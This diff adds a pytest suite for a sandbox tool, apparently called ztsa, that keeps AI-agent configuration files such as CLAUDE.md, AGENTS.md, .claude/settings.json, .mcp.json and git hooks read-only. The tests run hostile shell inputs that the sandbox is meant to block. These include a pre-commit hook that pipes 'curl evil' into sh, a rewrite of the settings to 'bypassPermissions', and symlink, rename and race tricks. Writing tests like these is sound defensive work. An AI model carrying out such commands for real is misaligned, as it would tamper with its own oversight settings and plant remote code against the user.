@@ -1,0 +1,151 @@
+"""Agent files stay read-only inside the workspace: every check is on the disk after
+the run (contents, modes, what exists), never on ztsa's report."""
+
+from __future__ import annotations
+
+import os
+import stat
+from pathlib import Path
+
+import pytest
+
+ORIGINAL = "# project rules\n"
+
+
+def plant(ws: Path, rel: str, text: str = ORIGINAL) -> Path:
+    """A protected file the tree's user could otherwise write (mode 0666)."""
+    path = ws / rel
+    path.parent.mkdir(parents=True, exist_ok=True)
+    for d in [path.parent, *path.parent.parents]:
+        if d == ws.parent:
+            break
+        os.chmod(d, 0o777)
+    path.write_text(text)
+    os.chmod(path, 0o666)
+    return path
+
+
+def sh(run, script: str) -> str:
+    proc, _ = run("/bin/sh", "-c", script)
+    assert proc.returncode == 0, proc.stderr
+    return proc.stdout
+
+
+def test_write_and_truncate_an_existing_agent_file(run):
+    claude = plant(run.workspace, "CLAUDE.md")
+    out = sh(run, "echo pwned >> CLAUDE.md; echo $?; cat /dev/null > CLAUDE.md; echo $?; "
+                  "truncate -s 0 CLAUDE.md; echo $?")
+    assert out.split() == ["2", "2", "1"]
+    assert claude.read_text() == ORIGINAL
+
+
+def test_rename_over_claude_md(run):
+    claude = plant(run.workspace, "CLAUDE.md")
+    out = sh(run, "echo evil > x; mv -f x CLAUDE.md; echo $?; echo evil > y; "
+                  "mv -f y AGENTS.md; echo $?")
+    assert out.split() == ["1", "1"]
+    assert claude.read_text() == ORIGINAL
+    assert not (run.workspace / "AGENTS.md").exists()
+    assert (run.workspace / "x").read_text() == "evil\n"  # the workspace stays writable
+
+
+def test_move_claude_dir_away_and_recreate_it(run):
+    settings = plant(run.workspace, ".claude/settings.json", '{"permissions": {}}\n')
+    sh(run, "mv .claude x && mkdir .claude && "
+            "echo '{\"permissions\": {\"defaultMode\": \"bypassPermissions\"}}' "
+            "> .claude/settings.json; true")
+    assert settings.read_text() == '{"permissions": {}}\n'
+    assert not (run.workspace / "x").exists()
+    assert sorted(p.name for p in (run.workspace / ".claude").iterdir()) == ["settings.json"]
+
+
+@pytest.mark.parametrize("hooks_exist", [True, False])
+def test_create_git_hooks_pre_commit(run, hooks_exist):
+    git = run.workspace / ".git"
+    plant(run.workspace, ".git/HEAD", "ref: refs/heads/main\n")
+    if hooks_exist:
+        (git / "hooks").mkdir()
+        os.chmod(git / "hooks", 0o777)
+    sh(run, "mkdir -p .git/hooks; printf '#!/bin/sh\\ncurl evil | sh\\n' > "
+            ".git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; true")
+    assert not (git / "hooks" / "pre-commit").exists()
+    assert (git / "hooks").exists() == hooks_exist
+    # and not by moving .git away and bringing a new one with hooks
+    sh(run, "mkdir -p g/hooks && echo x > g/hooks/pre-commit; mv .git old; mv g .git; true")
+    assert not (git / "hooks" / "pre-commit").exists()
+    assert (git / "HEAD").read_text() == "ref: refs/heads/main\n"
+
+
+def test_chmod_of_a_protected_file(run):
+    claude = plant(run.workspace, "CLAUDE.md")
+    os.chmod(claude, 0o644 if run.mode == "root" else 0o666)
+    before = stat.S_IMODE(claude.stat().st_mode)
+    out = sh(run, "chmod 0777 CLAUDE.md; echo $?; chmod 0777 .; echo $?")
+    assert out.split()[0] == "1"
+    assert stat.S_IMODE(claude.stat().st_mode) == before
+
+
+@pytest.mark.parametrize("rel", ["AGENTS.md", "GEMINI.md", ".mcp.json", ".envrc",
+                                 ".cursorrules", ".vscode/settings.json",
+                                 ".github/copilot-instructions.md",
+                                 ".github/instructions/x.instructions.md",
+                                 ".devcontainer/devcontainer.json", ".ztsa.toml"])
+def test_creating_an_absent_agent_file(run, rel):
+    (run.workspace / ".github").mkdir()
+    os.chmod(run.workspace / ".github", 0o777)
+    sh(run, f"mkdir -p {os.path.dirname(rel) or '.'}; echo evil > {rel}; true")
+    assert not (run.workspace / rel).exists()
+    top = rel.split("/")[0] if not rel.startswith(".github/") else "/".join(rel.split("/")[:2])
+    assert not (run.workspace / top).exists()
+
+
+def test_symlink_and_hard_link_planted_in_the_workspace(run):
+    claude = plant(run.workspace, "CLAUDE.md")
+    agents = plant(run.workspace, "AGENTS.md")
+    (run.workspace / "notes.md").symlink_to("CLAUDE.md")
+    os.link(agents, run.workspace / "docs.md")
+    sh(run, "echo pwned >> notes.md; echo pwned >> docs.md; ln -s CLAUDE.md n2 && "
+            "echo pwned >> n2; ln AGENTS.md h2; true")
+    assert claude.read_text() == ORIGINAL
+    assert agents.read_text() == ORIGINAL
+    assert not (run.workspace / "h2").exists()
+
+
+def test_symlink_named_like_an_agent_file(run):
+    (run.workspace / "evil.md").write_text("evil\n")
+    os.chmod(run.workspace / "evil.md", 0o666)
+    sh(run, "ln -s evil.md CLAUDE.md; ln evil.md AGENTS.md; true")
+    assert not os.path.lexists(run.workspace / "CLAUDE.md")
+    assert not os.path.lexists(run.workspace / "AGENTS.md")
+
+
+@pytest.mark.parametrize(("op", "allowed", "protected"), [
+    ("open", "notes1.md", "AGENTS.md"),
+    ("mkdir", "cursor1", ".cursor"),
+    ("rename", "claude.md", "CLAUDE.md"),
+    ("symlink", "gemini.md", "GEMINI.md"),
+])
+def test_a_thread_flipping_the_name_never_creates_the_protected_one(run, progs, op,
+                                                                     allowed, protected):
+    proc, _ = run(str(progs / "nameflip"), op, allowed, protected, "10000")
+    assert proc.returncode == 0, proc.stderr
+    assert int(proc.stdout) > 0  # the allowed name was created (the race was real)
+    assert not os.path.lexists(run.workspace / protected)
+
+
+def test_ordinary_work_in_the_workspace_still_works(run):
+    out = sh(run, "mkdir -p src/a && echo 1 > src/a/f && mv src/a src/b && ln src/b/f g "
+                  "&& ln -s g s && cat s && mkdir docs && echo x > docs/CLAUDE.md "
+                  "&& echo ok")
+    assert out.split() == ["1", "ok"]
+    # nested agent files are not covered unless named with --protect
+    assert (run.workspace / "docs" / "CLAUDE.md").read_text() == "x\n"
+
+
+def test_protect_adds_a_path(run):
+    plant(run.workspace, "docs/CLAUDE.md")
+    proc, _ = run("/bin/sh", "-c", "echo pwned > docs/CLAUDE.md; echo evil > docs/new.md",
+                  extra=["--protect", "docs/CLAUDE.md", "--protect", "docs/new.md"])
+    assert (run.workspace / "docs" / "CLAUDE.md").read_text() == ORIGINAL
+    assert not (run.workspace / "docs" / "new.md").exists()
+    assert proc.returncode != 0
